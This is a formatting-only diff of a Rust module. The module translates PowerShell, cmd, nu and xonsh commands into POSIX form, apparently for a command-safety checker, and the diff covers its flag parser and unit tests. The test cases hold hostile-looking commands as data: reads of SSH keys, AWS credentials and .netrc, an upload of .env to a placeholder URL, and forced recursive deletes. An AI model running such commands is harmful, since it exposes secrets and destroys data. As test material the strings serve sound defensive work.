@@ -199,16 +199,37 @@ fn pwsh(mut words: Vec<String>) -> Vec<String> {
             out.extend(it.next());
         } else if flag("append", 2) && verb == "tee" {
             out.push("-a".into());
-        } else if ["path", "literalpath", "filepath", "destination", "uri", "pattern"]
-            .iter()
-            .any(|f| flag(f, 1))
+        } else if [
+            "path",
+            "literalpath",
+            "filepath",
+            "destination",
+            "uri",
+            "pattern",
+        ]
+        .iter()
+        .any(|f| flag(f, 1))
             || w.eq_ignore_ascii_case("-lp")
         {
             out.extend(it.next());
-        } else if ["value", "encoding", "totalcount", "tail", "head", "first", "method",
-            "headers", "body", "filter", "include", "exclude", "delimiter", "readcount"]
-            .iter()
-            .any(|f| flag(f, 2))
+        } else if [
+            "value",
+            "encoding",
+            "totalcount",
+            "tail",
+            "head",
+            "first",
+            "method",
+            "headers",
+            "body",
+            "filter",
+            "include",
+            "exclude",
+            "delimiter",
+            "readcount",
+        ]
+        .iter()
+        .any(|f| flag(f, 2))
         {
             it.next();
         }
@@ -294,18 +315,33 @@ mod tests {
 
     #[test]
     fn powershell_commands() {
-        assert_eq!(translate("pwsh", "Remove-Item -Recurse -Force build"), "rm -r -f build");
+        assert_eq!(
+            translate("pwsh", "Remove-Item -Recurse -Force build"),
+            "rm -r -f build"
+        );
         assert_eq!(translate("pwsh", "rm -r -fo build"), "rm -r -f build");
-        assert_eq!(translate("pwsh", "gc $HOME/.ssh/id_rsa"), "cat ~/.ssh/id_rsa");
-        assert_eq!(translate("pwsh", "Get-Content $env:USERPROFILE\\.aws\\credentials"), "cat ~/.aws/credentials");
-        assert_eq!(translate("pwsh", "iwr -Uri https://x -InFile .env"), "curl https://x -T .env");
+        assert_eq!(
+            translate("pwsh", "gc $HOME/.ssh/id_rsa"),
+            "cat ~/.ssh/id_rsa"
+        );
+        assert_eq!(
+            translate("pwsh", "Get-Content $env:USERPROFILE\\.aws\\credentials"),
+            "cat ~/.aws/credentials"
+        );
+        assert_eq!(
+            translate("pwsh", "iwr -Uri https://x -InFile .env"),
+            "curl https://x -T .env"
+        );
         assert_eq!(translate("pwsh", "git push; ls"), "git push; ls");
     }
 
     #[test]
     fn cmd_nu_xonsh() {
         assert_eq!(translate("cmd", "rd /s /q build"), "rm -r -f build");
-        assert_eq!(translate("cmd", "type %USERPROFILE%\\.netrc & dir"), "cat ~/.netrc; ls");
+        assert_eq!(
+            translate("cmd", "type %USERPROFILE%\\.netrc & dir"),
+            "cat ~/.netrc; ls"
+        );
         assert_eq!(translate("nu", "open .env | lines"), "cat .env | lines");
         assert_eq!(translate("nu", "^git push"), "git push");
         assert_eq!(translate("xonsh", "![rm -rf build]"), "rm -rf build");
@@ -313,7 +349,10 @@ mod tests {
 
     #[test]
     fn encoded_commands() {
-        assert_eq!(utf16_base64("ZwBpAHQAIABwAHUAcwBoAA==").as_deref(), Some("git push"));
+        assert_eq!(
+            utf16_base64("ZwBpAHQAIABwAHUAcwBoAA==").as_deref(),
+            Some("git push")
+        );
         assert_eq!(utf16_base64("not base64!"), None);
     }
 }
